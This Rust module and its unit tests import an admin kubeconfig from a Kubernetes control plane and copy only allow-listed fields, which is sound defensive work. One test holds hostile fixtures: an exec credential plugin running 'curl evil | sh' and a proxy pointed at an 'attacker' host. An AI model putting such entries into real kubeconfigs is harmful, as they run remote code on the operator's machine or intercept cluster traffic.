//! The admin kubeconfig as `kwin kubeconfig` writes it: read on the first control plane
//! ([`read_script`]: `kubectl config view --raw --minify --flatten -o json` of kubeadm's
//! `admin.conf`, so no YAML is parsed), renamed after the cluster ([`rewrite`]: cluster,
//! user `<name>-admin` and context named after `cluster.name`, the server
//! `https://<control_plane_endpoint>`), and written as YAML ([`to_yaml`]).
//!
//! The kubeconfig holds the admin client key: the read's stdout is never logged, and only the
//! path, context and server are reported.
//!
//! The control plane is a host kwin manages, not the operator's machine: whoever is root
//! there could put an `exec` credential plugin (a command kubectl runs on the operator's
//! machine, where kwin keeps every host's keys and passwords), an `auth-provider`, a
//! `proxy-url`, a `tls-server-name` or a file reference into `admin.conf`. So [`rewrite`]
//! copies nothing but an allow-list, and refuses the kubeconfig when it holds anything else:
//! the cluster's `certificate-authority-data` (PEM certificates), and the user's
//! `client-certificate-data` with `client-key-data` (a PEM certificate and a PEM private
//! key) or a `token` (one line of printable ASCII). The server is the plan's.

use super::ADMIN_CONF;
use kwin_engine::pipeline::remote::{Remote, RemoteError, RunKind};
use serde_json::{json, Map, Value};
use std::time::Duration;

/// Time allowed for reading it.
pub const TIMEOUT: Duration = Duration::from_secs(60);

/// Why there is no kubeconfig.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FetchError {
    Interrupted,
    /// What went wrong, naming the host (scrubbed).
    Failed(String),
}

/// The admin kubeconfig read through `r` (the first control plane), as YAML named after
/// cluster `name` with `server`.
pub async fn fetch(r: &dyn Remote, name: &str, server: &str) -> Result<String, FetchError> {
    let host = r.host().to_string();
    let read = match r.connect().await {
        Err(_) if r.interrupted() => Err(RemoteError::Interrupted),
        Err(e) => Err(RemoteError::Failed(e)),
        Ok(()) => {
            r.run("kubeconfig", &read_script(), TIMEOUT, RunKind::Secret)
                .await
        }
    };
    r.close().await;
    let output = match read {
        Err(RemoteError::Interrupted) => return Err(FetchError::Interrupted),
        Err(RemoteError::Failed(e)) => return Err(FetchError::Failed(format!("{host}: {e}"))),
        Ok(o) => o,
    };
    if output.exit != 0 {
        let err = r.scrub(String::from_utf8_lossy(&output.stderr).trim());
        return Err(FetchError::Failed(format!(
            "{host}: reading {ADMIN_CONF} failed (exit code {}): {err}",
            output.exit
        )));
    }
    let raw: Value = serde_json::from_slice(&output.stdout).map_err(|e| {
        FetchError::Failed(format!(
            "{host}: kubectl config view printed no JSON kubeconfig ({e})"
        ))
    })?;
    let config = rewrite(&raw, name, server)
        .map_err(|e| FetchError::Failed(format!("{ADMIN_CONF} on {host}: {e}")))?;
    Ok(to_yaml(&config))
}

/// The script that prints the admin kubeconfig as JSON (one cluster, one user).
pub fn read_script() -> String {
    format!(
        "[ -r {ADMIN_CONF} ] || {{ echo '{ADMIN_CONF} does not exist: is the cluster initialised (kwin apply)?' >&2; exit 1; }}\n\
         command -v kubectl >/dev/null 2>&1 || {{ echo 'kubectl is not installed' >&2; exit 1; }}\n\
         kubectl config view --kubeconfig {ADMIN_CONF} --raw --minify --flatten -o json </dev/null\n"
    )
}

/// The admin kubeconfig `raw` (one cluster, one user, as `--minify --flatten` gives) with
/// cluster `name`, user `<name>-admin`, context `name` and `server`: built from the allow-list
/// only (see the module docs), or an error naming what is not allowed.
pub fn rewrite(raw: &Value, name: &str, server: &str) -> Result<Value, String> {
    let first = |key: &str, inner: &str| -> Result<Map<String, Value>, String> {
        let list = raw
            .get(key)
            .and_then(|v| v.as_array())
            .ok_or_else(|| format!("the kubeconfig has no {key}"))?;
        if list.len() != 1 {
            return Err(format!(
                "the kubeconfig has {} {key}; kwin reads exactly one",
                list.len()
            ));
        }
        list[0]
            .get(inner)
            .and_then(|v| v.as_object())
            .cloned()
            .ok_or_else(|| format!("the kubeconfig has no {key}[0].{inner}"))
    };
    let cluster = first("clusters", "cluster")?;
    let user = first("users", "user")?;
    let only = |what: &str, entry: &Map<String, Value>, allowed: &[&str]| -> Result<(), String> {
        match entry.keys().find(|k| !allowed.contains(&k.as_str())) {
            Some(k) => Err(format!(
                "the {what} entry holds `{k}`, which kwin does not copy (it copies only {}): refusing the kubeconfig",
                allowed.join(", ")
            )),
            None => Ok(()),
        }
    };
    only(
        "cluster",
        &cluster,
        &["certificate-authority-data", "server"],
    )?;
    let ca = pem_data(&cluster, "certificate-authority-data", &["CERTIFICATE"])
        .map_err(|e| format!("the cluster entry: {e}"))?;
    let mut out_user = Map::new();
    if user.contains_key("token") {
        only("user", &user, &["token"])?;
        let token = user
            .get("token")
            .and_then(Value::as_str)
            .unwrap_or_default();
        if token.is_empty() || token.len() > 4096 || !token.bytes().all(|b| b.is_ascii_graphic()) {
            return Err("the user entry's `token` is not one line of printable ASCII".into());
        }
        out_user.insert("token".into(), Value::String(token.to_string()));
    } else {
        only(
            "user",
            &user,
            &["client-certificate-data", "client-key-data"],
        )?;
        let cert = pem_data(&user, "client-certificate-data", &["CERTIFICATE"])
            .map_err(|e| format!("the user entry: {e}"))?;
        let key = pem_data(
            &user,
            "client-key-data",
            &["PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY"],
        )
        .map_err(|e| format!("the user entry: {e}"))?;
        out_user.insert("client-certificate-data".into(), Value::String(cert));
        out_user.insert("client-key-data".into(), Value::String(key));
    }
    let user_name = format!("{name}-admin");
    Ok(json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{ "name": name, "cluster": {
            "certificate-authority-data": ca,
            "server": server,
        } }],
        "users": [{ "name": user_name, "user": out_user }],
        "contexts": [{ "name": name, "context": { "cluster": name, "user": user_name } }],
        "current-context": name,
        "preferences": {},
    }))
}

/// `entry[key]`: base64 of PEM text whose every block is one of `labels` (at least one
/// block, each with a base64 body), returned as it was given.
fn pem_data(entry: &Map<String, Value>, key: &str, labels: &[&str]) -> Result<String, String> {
    use base64::Engine;
    let b64 = entry
        .get(key)
        .and_then(Value::as_str)
        .ok_or_else(|| format!("no `{key}`"))?;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(b64.trim())
        .map_err(|_| format!("`{key}` is not base64"))?;
    let text = std::str::from_utf8(&bytes).map_err(|_| format!("`{key}` is not PEM text"))?;
    let bad = || format!("`{key}` is not PEM ({})", labels.join(" or "));
    let mut blocks = 0;
    let mut lines = text.lines().map(str::trim_end).filter(|l| !l.is_empty());
    while let Some(begin) = lines.next() {
        let label = begin
            .strip_prefix("-----BEGIN ")
            .and_then(|l| l.strip_suffix("-----"))
            .filter(|l| labels.contains(l))
            .ok_or_else(bad)?;
        let end = format!("-----END {label}-----");
        let mut body = String::new();
        loop {
            let l = lines.next().ok_or_else(bad)?;
            if l == end {
                break;
            }
            body.push_str(l);
        }
        if body.is_empty()
            || base64::engine::general_purpose::STANDARD
                .decode(&body)
                .is_err()
        {
            return Err(bad());
        }
        blocks += 1;
    }
    if blocks == 0 {
        return Err(bad());
    }
    Ok(b64.trim().to_string())
}

/// YAML for a JSON value: block style, strings as JSON strings (valid YAML double-quoted
/// scalars), keys in the order given.
pub fn to_yaml(v: &Value) -> String {
    let mut s = String::new();
    emit(v, 0, &mut s);
    s
}

fn scalar(v: &Value) -> Option<String> {
    match v {
        Value::Object(m) if m.is_empty() => Some("{}".into()),
        Value::Array(a) if a.is_empty() => Some("[]".into()),
        Value::Object(_) | Value::Array(_) => None,
        other => Some(other.to_string()),
    }
}

fn emit(v: &Value, indent: usize, s: &mut String) {
    let pad = " ".repeat(indent);
    match v {
        Value::Object(m) => {
            for (k, val) in m {
                let key = Value::String(k.clone()).to_string();
                let key = if k.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
                    k.clone()
                } else {
                    key
                };
                match scalar(val) {
                    Some(x) => s.push_str(&format!("{pad}{key}: {x}\n")),
                    None => {
                        s.push_str(&format!("{pad}{key}:\n"));
                        emit(val, indent + 2, s);
                    }
                }
            }
        }
        Value::Array(a) => {
            for item in a {
                match scalar(item) {
                    Some(x) => s.push_str(&format!("{pad}- {x}\n")),
                    None => {
                        // "- " then the item's first line on the same line.
                        let mut inner = String::new();
                        emit(item, indent + 2, &mut inner);
                        let body = inner.get(indent + 2..).unwrap_or("");
                        s.push_str(&format!("{pad}- {body}"));
                    }
                }
            }
        }
        other => s.push_str(&format!("{pad}{other}\n")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pem(label: &str, body: &[u8]) -> String {
        use base64::Engine;
        let e = base64::engine::general_purpose::STANDARD;
        let inner = e.encode(body);
        e.encode(format!(
            "-----BEGIN {label}-----\n{inner}\n-----END {label}-----\n"
        ))
    }

    fn admin() -> Value {
        json!({
            "apiVersion": "v1", "kind": "Config",
            "clusters": [{ "name": "kubernetes", "cluster": {
                "certificate-authority-data": pem("CERTIFICATE", b"ca"), "server": "https://10.0.0.10:6443" } }],
            "users": [{ "name": "kubernetes-admin", "user": {
                "client-certificate-data": pem("CERTIFICATE", b"cert"), "client-key-data": pem("RSA PRIVATE KEY", b"key") } }],
            "contexts": [{ "name": "kubernetes-admin@kubernetes",
                "context": { "cluster": "kubernetes", "user": "kubernetes-admin" } }],
            "current-context": "kubernetes-admin@kubernetes",
        })
    }

    #[test]
    fn names_and_server_follow_the_plan() {
        let c = rewrite(&admin(), "lab", "https://lb.example:6443").expect("rewrite");
        assert_eq!(c["current-context"], "lab");
        assert_eq!(c["contexts"][0]["context"]["user"], "lab-admin");
        assert_eq!(c["clusters"][0]["name"], "lab");
        assert_eq!(
            c["clusters"][0]["cluster"]["server"],
            "https://lb.example:6443"
        );
        assert_eq!(
            c["users"][0]["user"]["client-key-data"],
            pem("RSA PRIVATE KEY", b"key")
        );
    }

    #[test]
    fn missing_parts_are_errors() {
        assert!(rewrite(&json!({}), "lab", "https://x:1").is_err());
        let mut a = admin();
        a["clusters"][0]["cluster"]
            .as_object_mut()
            .map(|m| m.remove("certificate-authority-data"));
        assert!(rewrite(&a, "lab", "https://x:1")
            .expect_err("no CA")
            .contains("certificate-authority-data"));
    }

    /// Root on the control plane controls `admin.conf`: nothing but the allow-list reaches
    /// the operator's kubeconfig — no credential plugin (code kubectl would run on the
    /// operator's machine), auth provider, proxy, TLS name or file reference.
    #[test]
    fn only_the_allow_list_is_copied() {
        let hostile: [(&str, &str, Value); 9] = [
            (
                "users",
                "exec",
                json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh", "args": ["-c", "curl evil | sh"] }),
            ),
            (
                "users",
                "auth-provider",
                json!({ "name": "oidc", "config": {} }),
            ),
            (
                "users",
                "client-certificate",
                json!("/etc/kubernetes/pki/admin.crt"),
            ),
            ("users", "username", json!("admin")),
            ("clusters", "proxy-url", json!("http://attacker:3128")),
            ("clusters", "tls-server-name", json!("attacker")),
            ("clusters", "certificate-authority", json!("/tmp/ca.crt")),
            ("clusters", "insecure-skip-tls-verify", json!(true)),
            ("clusters", "extensions", json!([])),
        ];
        for (list, key, v) in hostile {
            let mut a = admin();
            let inner = if list == "users" { "user" } else { "cluster" };
            a[list][0][inner][key] = v;
            let e = rewrite(&a, "lab", "https://x:1").expect_err(key);
            assert!(e.contains(&format!("`{key}`")), "{key}: {e}");
        }
        // A token instead of a client certificate, alone.
        let mut a = admin();
        a["users"][0]["user"] = json!({ "token": "abcdef.0123456789abcdef" });
        let c = rewrite(&a, "lab", "https://x:1").expect("token");
        assert_eq!(
            c["users"][0]["user"],
            json!({ "token": "abcdef.0123456789abcdef" })
        );
        a["users"][0]["user"] = json!({ "token": "a b\nc" });
        assert!(rewrite(&a, "lab", "https://x:1").is_err());
        // Not PEM, the wrong kind of block, or a key where a certificate belongs.
        for (key, v) in [
            ("client-certificate-data", json!("Q0VSVA==")),
            ("client-certificate-data", json!(pem("PRIVATE KEY", b"k"))),
            ("client-key-data", json!(pem("CERTIFICATE", b"c"))),
            ("client-key-data", json!("not base64!")),
        ] {
            let mut a = admin();
            a["users"][0]["user"][key] = v;
            assert!(rewrite(&a, "lab", "https://x:1").is_err(), "{key}");
        }
        // Two users: which one would kubectl use? Refused.
        let mut a = admin();
        let u = a["users"][0].clone();
        if let Some(l) = a["users"].as_array_mut() {
            l.push(u);
        }
        assert!(rewrite(&a, "lab", "https://x:1").is_err());
    }

    #[test]
    fn yaml_is_block_style_with_quoted_strings() {
        let c = rewrite(&admin(), "lab", "https://x:6443").expect("rewrite");
        let y = to_yaml(&c);
        for line in [
            "apiVersion: \"v1\"\n",
            "\nclusters:\n  - cluster:\n",
            "\n      server: \"https://x:6443\"\n",
            "\ncurrent-context: \"lab\"\n",
            "\npreferences: {}\n",
            "\ncontexts:\n  - context:\n      cluster: \"lab\"\n      user: \"lab-admin\"\n    name: \"lab\"\n",
        ] {
            assert!(y.starts_with(line) || y.contains(line), "{line:?} not in\n{y}");
        }
    }
}
